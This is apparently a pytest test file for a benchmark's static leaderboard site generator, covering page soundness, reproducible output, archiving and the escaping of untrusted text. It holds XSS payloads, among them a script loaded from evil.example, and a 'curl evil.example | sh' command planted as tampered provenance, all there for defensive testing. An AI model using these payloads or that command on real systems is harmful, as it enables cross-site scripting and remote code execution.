"""The site of all boards: whole, self-contained, the same bytes everywhere, and safe to open."""

from __future__ import annotations

import bz2
import io
import json
import re
import shutil
import tarfile
from pathlib import Path

import pytest
import torch
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pages_of_sites import broken, pages_of

from msgm_bench.api.result import Result
from msgm_bench.boards import pages as board_pages
from msgm_bench.boards.sample_sheets import sheet_path
from msgm_bench.boards.trust import method_levels, read_trust, record_trust
from msgm_bench.errors import PluginError, UsageError
from msgm_bench.report.sample_sheets import image_sheet, write_sheet
from msgm_bench.site import build_site, make_site
from msgm_bench.site.run_view import short
from msgm_bench.site.texts import cited, file_part, formula, plain, prose

LEADERBOARDS = Path(__file__).parents[2] / "leaderboards"
LIMIT, PAGE = 5_000_000, 400_000  # bytes of a site and of a page
WORDS = [
    "<script>alert(1)</script>",
    "</script><script src=https://evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</title></head><body onload=alert(1)>",
    "</code></pre><svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)",
    "<!-- <b> -->",
    "]]><![CDATA[",
    "{{ 7 * 7 }} {% raw %} {{ self }}",
    "&lt;b&gt; &amp; &#60;i&#62;",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{display:none}</style>",
    "\x1b[2J\x1b]0;title\x07 red",
    "bidi \u202e override \u2066 isolate",
    "\ud800 alone",
    "a\x00b",
    "line\n\n<b>another</b>\r\n",
    "x" * 5000,
    " ",
]


@pytest.fixture
def sheets(folder):
    """Sheets of two methods of the board, and of one along its training."""
    for method in ("alpha", "beta"):
        content = image_sheet({"samples": torch.rand(9, 1, 8, 8)})
        write_sheet(sheet_path(folder, method), content)
    for step in (0, 100, 2000):
        content = image_sheet({"samples": torch.rand(4, 1, 8, 8)})
        write_sheet(sheet_path(folder, "alpha").with_name(f"step-{step}.png"), content)
    return folder


def check_sound(files):
    """Pages parse, their tags match, and every link leads to a place of the site."""
    pages = pages_of(files)
    problems = {name: page.problems for name, page in pages.items() if page.problems}
    assert problems == {}
    assert broken(files, pages) == []
    for name, page in pages.items():
        assert len(page.ids) == len(set(page.ids)), name
        assert [tag for tag, _ in page.elements].count("script") == 1
        assert not [a for _, names in page.elements for a in names if a.startswith(("on", "style"))]
    return pages


def test_the_site_of_a_board_is_whole(sheets):
    """Pages of the board, its methods and their runs; links, images and archive are there."""
    files = make_site(sheets.parent).files
    pages = check_sound(files)
    methods = ("base", "ideal", "alpha", "beta")
    wanted = {"index.html", "boards/toy-net-b.html", *(f"methods/{m}.html" for m in methods)}
    assert set(pages) == wanted | {f"runs/toy-net-b/{m}.html" for m in methods}
    board = pages["boards/toy-net-b.html"]
    assert board.sources.count("../images/toy-net-b/alpha.png") == 1
    assert {f"../images/toy-net-b/alpha-{n}.png" for n in (0, 100, 2000)} <= set(board.sources)
    assert {"ranking", "plot", "samples", "training", "protocols", "commands"} <= set(board.ids)


def test_values_trust_and_protocols_are_on_the_page(folder):
    """Means and ranks with their intervals, trust level, and the settings behind each column."""
    text = pages_of(make_site(folder).files)["boards/toy-net-b.html"].text
    assert "5.0 ± 0.1" in text
    ranges = {row.method: row.range for row in board_pages.page(folder).ranked if row.interval}
    assert ranges, "the board has several seeds"
    assert all(ranked in text for ranked in ranges.values())
    assert "claimed" in text
    assert "unlearning_ratio/judge@1" in text
    assert "judge.width" in text
    run = pages_of(make_site(folder).files)["runs/toy-net-b/alpha.html"].text
    assert "5.100 [" in run


def test_an_edited_provenance_is_believed_no_more(folder, make, write, edit):
    """Command and judge's report are part of what is trusted, and other programs are not shown."""
    own = "msgm-bench run --method alpha --dataset toy --forget b --backbone net --seed 0"
    result = make("alpha", 0, 1.0, provenance={"command": own, "judge": {"accuracy": 0.95}})
    write(folder, [result])
    record_trust(folder, board_pages.page(folder).results, "re-run")
    files = make_site(folder).files
    assert own in pages_of(files)["runs/toy-net-b/alpha.html"].text
    assert method_levels(read_trust(folder), board_pages.page(folder).results)["alpha"] == "re-run"
    path = folder / "results" / "alpha-s0.json"
    for change in ({"judge": {"accuracy": 0.5}}, {"command": "curl evil.example | sh"}):
        write(folder, [result])
        edit(path, lambda content, change=change: content["provenance"].update(change))
        page = board_pages.page(folder)
        assert method_levels(read_trust(folder), page.results)["alpha"] == "claimed"
    assert "evil" not in pages_of(make_site(folder).files)["runs/toy-net-b/alpha.html"].text


def remarked(result, reason):
    """The result with the reason that ``reason(row)`` gives to each row."""
    content = json.loads(result.to_json())
    del content["digest"], content["schema"]
    for row in content["metrics"]:
        row["reason"] = reason(row)
    return Result(**content)


def test_notes_of_the_first_columns_come_first(folder, definition, everything, write):
    """Hidden notes have the later numbers, so that what is seen counts from 1."""
    definition["details"] = [definition["columns"].pop()]
    results = [
        remarked(one, lambda row, name=one.spec.method: f"{name}: {row['metric']} {row['split']}")
        for one in everything
    ]
    write(folder, results, definition)
    page = make_site(folder).files["boards/toy-net-b.html"].decode("utf-8")
    hidden = re.findall(r'<li id="note-\d+" value="\d+"( class="detail")?>', page)
    assert True in map(bool, hidden)
    assert [bool(one) for one in hidden] == sorted(map(bool, hidden))


@pytest.mark.parametrize("seeds", [1, 3])
def test_one_seed_is_no_mean(folder, everything, write, definition, seeds):
    """The page and the site say of what the intervals are."""
    for path in (folder / "results").iterdir():
        path.unlink()
    definition |= {"seeds": seeds, "panels": [dict(definition["columns"][0])]}
    write(folder, [result for result in everything if result.spec.seed < seeds], definition)
    texts = [
        pages_of(make_site(folder).files)["boards/toy-net-b.html"].text,
        board_pages.page(folder).text,
    ]
    for text in texts:
        assert ("eans over seeds with their 95 % intervals" in text) == (seeds > 1)
        assert ("alues of one seed with 95 % intervals over items" in text) == (seeds == 1)


def test_notes_of_further_quantities_come_with_them(folder, definition, everything, write):
    """A remark on a column that is hidden at first is hidden, too, and keeps its number."""
    definition["details"] = [definition["columns"].pop()]

    def far(row):
        """The remark on the quantity that is hidden."""
        return "far away" if (row["metric"], row["split"]) == ("nll", "forget") else row["reason"]

    write(folder, [remarked(result, far) for result in everything], definition)
    page = make_site(folder).files["boards/toy-net-b.html"].decode("utf-8")
    notes = re.findall(r'<li id="note-(\d+)" value="(\d+)"( class="detail")?>(.*)</li>', page)
    assert notes
    assert all(number == value for number, value, _, _ in notes)
    assert [bool(hidden) for _, _, hidden, _ in notes] == ["far away" in text for *_, text in notes]
    assert any("far away" in text for *_, text in notes)


def test_a_row_says_how_its_options_were_chosen(folder, definition, write):
    """Where the board says so: a column of the table, and what its words mean."""
    assert "Options" not in pages_of(make_site(folder).files)["boards/toy-net-b.html"].text
    write(folder, [], definition | {"options": {"alpha": "by hand", "beta": "published"}})
    text = check_sound(make_site(folder).files)["boards/toy-net-b.html"].text
    assert "Options" in text
    assert "chosen by hand on this very task): alpha" in text


def test_every_machine_writes_the_same_bytes(sheets, tmp_path):
    """Another folder, another order of creation: equal files, and no path or name of a machine."""
    copy = tmp_path / "elsewhere" / "boards"
    shutil.copytree(sheets.parent, copy)
    first, second = make_site(sheets.parent).files, make_site(copy).files
    assert first == second
    assert list(first) == sorted(first)
    for name, content in first.items():
        if not name.startswith("results/"):
            assert str(tmp_path).encode() not in content, name
            assert b"secret-host" not in content, name
            assert b"secret-node" not in content, name


def test_the_archive_holds_the_results(folder, everything):
    """Every result as it stands on the board, without dates and owners."""
    content = make_site(folder).files["results/toy-net-b.tar.bz2"]
    with tarfile.open(fileobj=io.BytesIO(bz2.decompress(content))) as archive:
        members = archive.getmembers()
        texts = [archive.extractfile(member).read().decode("utf-8") for member in members]
    assert sorted(texts) == sorted(result.to_json() for result in everything)
    assert {(m.mtime, m.uid, m.gid, m.uname, m.gname) for m in members} == {(0, 0, 0, "", "")}


def test_the_boards_of_the_project_are_one_small_site():
    """All boards: sound pages below 5 MB, and the paper's values beside those of the toy."""
    site = make_site(LEADERBOARDS)
    assert site.refused == {}
    assert site.size < LIMIT
    assert max(len(content) for name, content in site.files.items() if "html" in name) < PAGE
    pages = check_sound(site.files)
    assert "arXiv:2412.07229" in pages["boards/gaussians-vesde-middle.html"].text
    assert "paper 39.01" in pages["boards/gaussians-vesde-middle.html"].text
    method = pages["methods/obt.html"].text
    assert "ε̂ · ε" in method
    assert "https://arxiv.org/abs/2412.07229" in pages["methods/obt.html"].links


def test_a_board_without_results_is_shown(tmp_path, definition, write):
    """It says how to fill it; the rest of the site is there."""
    write(tmp_path / "boards" / "empty", [], definition)
    pages = check_sound(make_site(tmp_path / "boards").files)
    assert "This board has no results yet" in pages["boards/empty.html"].text
    assert "Nobody leads" in pages["index.html"].text


def test_results_of_an_older_schema_are_named(folder):
    """They are left out with their reason; the others stay."""
    path = folder / "results" / "alpha-s0.json"
    content = json.loads(path.read_text("utf-8")) | {"schema": "msgm-bench/result@1"}
    path.write_text(json.dumps(content), encoding="utf-8")
    pages = check_sound(make_site(folder).files)
    text = pages["boards/toy-net-b.html"].text
    assert "alpha-s0.json is left out" in text
    assert "another version of msgm-bench" in text
    assert "2 of 3 seeds" in text


def test_a_board_that_is_wrong_does_not_stop_the_others(folder, bench):
    """It is named with its reason, on the first page and on stderr, and the exit code says so."""
    wrong = folder.parent / "wrong"
    wrong.mkdir()
    (wrong / "board.yaml").write_text("title: [", encoding="utf-8")
    code, out, errors = bench("board", "site", "site", "--boards", folder.parent)
    assert code == 1
    assert "written: site/index.html, 1 board" in out
    assert "wrong is left out: board.yaml is not valid YAML" in errors
    assert "board.yaml is not valid YAML" in Path("site/index.html").read_text("utf-8")


def test_published_values_of_a_plugin_stand_beside_the_measured(folder, third_party):
    """Those of the column's metric and split in its cell, all of them in a table, escaped."""
    source = """
from msgm_bench import Published, hookimpl


@hookimpl
def published_values(results):
    assert len(results) == 12
    place = ("alpha", "<b>ur</b>", "ur", "samples")
    return [Published(*place, 4.5, "%", "arXiv:2412.07229, table 9", "differs", ("<i>",))]
"""
    third_party("third-party-published", source, "third_party.published")
    board = check_sound(make_site(folder).files)["boards/toy-net-b.html"]
    assert board.text.count("paper 4.5") == 1
    assert "<b>ur</b>" in board.text
    assert "published" in board.ids


def test_a_plugin_that_answers_nonsense_is_named(folder, third_party):
    """What is no Published is an error that says so, before anything is written."""
    source = "from msgm_bench import hookimpl\n\n\n@hookimpl\ndef published_values(results):\n"
    third_party("third-party-odd", source + "    return ['odd']\n", "third_party.odd")
    with pytest.raises(PluginError, match="'odd'"):
        make_site(folder)


def test_a_sheet_that_is_damaged_is_named(sheets):
    """The page says which, and shows the other methods'."""
    sheet_path(sheets, "alpha").write_bytes(b"<svg onload=alert(1)>")
    pages = check_sound(make_site(sheets).files)
    text = pages["boards/toy-net-b.html"].text
    assert "samples.png is no sheet of samples" in text


def test_an_older_site_gives_way(folder, tmp_path, write, definition):
    """Files that are no longer of the site go; without a change nothing changes."""
    target = tmp_path / "site"
    second = folder.parent / "second"
    write(second, [], definition)
    build_site(folder.parent, target)
    assert (target / "boards" / "second.html").exists()
    shutil.rmtree(second)
    build_site(folder.parent, target)
    assert not (target / "boards" / "second.html").exists()
    names = {p.relative_to(target).as_posix() for p in target.rglob("*") if p.is_file()}
    assert names == set(make_site(folder.parent).files)
    assert not [path for path in tmp_path.iterdir() if path.name.startswith(".")]


@pytest.mark.parametrize("name", ["notes.txt", "boards/mine.html"])
def test_other_files_are_not_replaced(folder, tmp_path, name):
    """A folder with anything of the user's is refused, whether or not a site is in it."""
    target = tmp_path / "site"
    if "/" in name:
        build_site(folder, target)
    (target / name).parent.mkdir(parents=True, exist_ok=True)
    (target / name).write_text("mine", encoding="utf-8")
    with pytest.raises(UsageError, match="which is of no site"):
        build_site(folder, target)
    assert (target / name).read_text("utf-8") == "mine"


def test_there_must_be_a_board(tmp_path):
    """A folder without any is an error, and nothing is written."""
    with pytest.raises(UsageError, match="no board in"):
        build_site(tmp_path, tmp_path / "site")
    assert not (tmp_path / "site").exists()


# Words of strangers


def hostile(result, word):
    """A result with a word in every text that may hold one."""
    content = json.loads(result.to_json())
    del content["digest"], content["schema"]
    content["provenance"]["command"] = word
    content["provenance"]["versions"] = {"torch": f"1 {word}"}  # what begins as a path is left out
    for row in content["metrics"]:
        row["reason"] = word
    return Result(**content)


PLAIN_SHAPE = {}  # of the site of a plain word; made once


def shape(files):
    """The elements of every page."""
    return {name: page.elements for name, page in pages_of(files).items()}


@settings(max_examples=12, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(word=st.one_of(st.sampled_from(WORDS), st.text(min_size=1, max_size=60)))
def test_words_of_strangers_stay_words(tmp_path_factory, definition, everything, write, word):
    """Title, summary, labels, classes, commands, reasons: the elements are those of plain words."""
    word = word.replace("`", "'").replace("arXiv:", "")
    place = tmp_path_factory.mktemp("hostile")

    def site(text):
        board = json.loads(json.dumps(definition))
        board |= {"title": text, "summary": text, "commands": [text]}
        board["columns"][0]["label"] = text
        folder = place / "toy"
        shutil.rmtree(folder, ignore_errors=True)
        write(folder, [hostile(result, text) for result in everything], board)
        return make_site(folder).files

    # what JSON and YAML cannot hold never gets here
    text = "".join(c for c in word if c.isprintable() or c in "\n\t\x1b") or "x"
    files = site(text)
    if not PLAIN_SHAPE:
        PLAIN_SHAPE.update(shape(site("word")))
    assert shape(files) == PLAIN_SHAPE
    assert check_sound(files)["boards/toy.html"].text.count(plain(text)) >= 1


@given(st.one_of(st.sampled_from(WORDS), st.text()))
def test_filters_escape(word):
    """No filter lets a bracket or a quote of a text through that it did not write itself."""
    for filtered in (prose(word), cited(word), formula(word)):
        rest = str(filtered)
        for tag in ("<code>", "</code>", "<sub>", "</sub>", "<sup>", "</sup>", "</a>"):
            rest = rest.replace(tag, "")
        assert "<" not in rest
        assert ">" not in rest
        assert "\x00" not in rest


def test_formulas_are_typeset():
    """Greek letters, indices, exponents and products of docstrings."""
    typeset = formula("L = alpha L_g + E (eps_hat . eps / D)^2 < sigma^4")
    assert typeset == ("L = α L<sub>g</sub> + E (ε̂ · ε / D)<sup>2</sup> &lt; σ<sup>4</sup>")


def test_only_numbers_of_arxiv_are_links():
    """No other address of a text is followed."""
    link = (
        '<a href="https://arxiv.org/abs/2412.07229" rel="noreferrer noopener">arXiv:2412.07229</a>'
    )
    assert cited("MSGM, arXiv:2412.07229, and https://evil.example") == (
        f"MSGM, {link}, and https://evil.example"
    )


@given(st.lists(st.text(min_size=1), unique=True, min_size=2, max_size=2))
def test_names_are_addresses(names):
    """Two names have two addresses, none of which leaves its folder."""
    a, b = map(file_part, names)
    assert a != b
    for part in (a, b):
        assert part.isascii()
        assert "/" not in part
        assert not part.startswith(".")


@pytest.mark.parametrize(
    ("value", "text"),
    [(0.0, "0"), (5.1, "5.100"), (0.01234567, "0.0123"), (123.456, "123.5"), (98765.4, "98765")],
)
def test_values_are_short(value, text):
    """Four digits, and no more than four decimals."""
    assert short(value) == text
